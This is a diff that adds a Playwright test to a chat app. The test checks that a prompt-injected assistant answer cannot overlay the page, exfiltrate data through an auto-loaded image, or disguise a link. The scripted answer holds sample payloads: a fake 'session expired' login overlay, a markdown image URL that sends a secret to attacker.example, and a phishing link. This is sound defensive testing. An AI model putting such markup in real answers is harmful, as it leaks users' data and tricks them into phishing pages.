@@ -196,3 +196,54 @@ test('thinking streams live in an open block that collapses when the answer is d
   await expect(thinking).toHaveAttribute('open', '');
   await expect(thinking).toContainText('weigh a few options before I answer it.');
 });
+
+test('a prompt-injected answer cannot restyle the page, leak data through an image, or hide where a link goes', async ({ page, api }) => {
+  const conversation = await api.createConversation({ model: 'text' });
+  await page.goto(`/c/${conversation.id}`);
+  const remote: string[] = [];
+  page.on('request', (request) => {
+    if (new URL(request.url()).host.endsWith('attacker.example')) remote.push(request.url());
+  });
+  // A 1×1 PNG, answered for the attacker's host once the reader chooses to load its image.
+  const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
+  await page.route('https://attacker.example/**', (route) => route.fulfill({ status: 200, contentType: 'image/png', body: png }));
+  await script(
+    page.request,
+    [
+      'Here is your summary.',
+      '',
+      '<div style="position:fixed;inset:0;z-index:9999;background:#fff" class="login-overlay">Your session expired. Sign in again.</div>',
+      '',
+      '![chart](https://attacker.example/collect?secret=the-users-notes)',
+      '',
+      'Read [the official docs](https://attacker.example/phish) for more.',
+    ].join('\n'),
+  );
+  await sendMessage(page, 'summarise my notes');
+  const answer = lastAssistant(page);
+  await expect(answer).toHaveAttribute('data-status', 'complete');
+
+  const overlay = answer.getByText('Your session expired. Sign in again.');
+  await expect(overlay).toBeVisible();
+  expect(await overlay.evaluate((el) => [el.getAttribute('style'), el.getAttribute('class'), getComputedStyle(el).position])).toEqual([null, null, 'static']);
+  // The composer is still reachable: nothing covers the page.
+  await expect(page.getByRole('textbox', { name: /your message/i })).toBeEnabled();
+
+  const held = answer.getByRole('button', { name: 'Image from attacker.example — click to load' });
+  await expect(held).toBeVisible();
+  await page.waitForTimeout(300);
+  expect(remote, 'nothing is fetched from the attacker before the reader asks').toEqual([]);
+
+  const link = answer.getByRole('link', { name: 'the official docs' });
+  await expect(link).toHaveAttribute('title', 'https://attacker.example/phish');
+  await expect(link).toHaveAttribute('rel', 'noopener noreferrer nofollow');
+  await expect(answer.locator('.link-host')).toHaveText(' (attacker.example)');
+  await shot(page, 'render-untrusted-held');
+
+  await held.click();
+  const image = answer.locator('img[src^="https://attacker.example/collect"]');
+  await expect(image).toBeVisible();
+  await expect(image).toHaveAttribute('referrerpolicy', 'no-referrer');
+  expect(remote).toEqual(['https://attacker.example/collect?secret=the-users-notes']);
+  await shot(page, 'render-untrusted-loaded');
+});
